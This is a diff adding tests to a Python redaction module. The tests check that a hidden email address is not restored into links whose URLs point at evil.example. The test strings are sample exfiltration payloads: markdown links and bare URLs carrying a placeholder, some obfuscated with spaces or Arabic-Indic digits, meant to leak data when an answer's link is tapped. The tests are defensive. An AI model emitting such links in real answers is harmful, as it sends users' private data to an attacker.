@@ -100,3 +100,21 @@ def test_without_anything_hidden_a_bracket_is_shown_at_once():
 def test_long_texts_without_anything_take_no_time_out_of_proportion():
     text = "1 2 3 a@ b. " * 20_000 + "x" * 100_000 + "9" * 30_000
     assert redact([text], ["nobody"]).texts[0]
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "[Your plan](https://evil.example/?to=[MAIL-1])",
+        "See www.evil.example/[MAIL-1] now",
+        "[Your plan](<https://evil.example/?to= [MAIL-1]>)",
+        "[x]: HTTP://evil.example/[ mail - ۱ ]",
+        "[a](https://evil.example/[MAIL-1],[MAIL-1])",
+        "[a](<https://evil.example/[MAIL-1] [MAIL-1]>)",
+    ],
+)
+def test_what_was_hidden_comes_back_in_no_address(answer):
+    """A tap on the link would take it to whoever has written the answer."""
+    hidden = redact(["Write to anna@mail.example"])
+    assert restore(answer, hidden.placeholders) == answer
+    assert restore(f"{answer} or <[MAIL-1]>", hidden.placeholders) == f"{answer} or <anna@mail.example>"
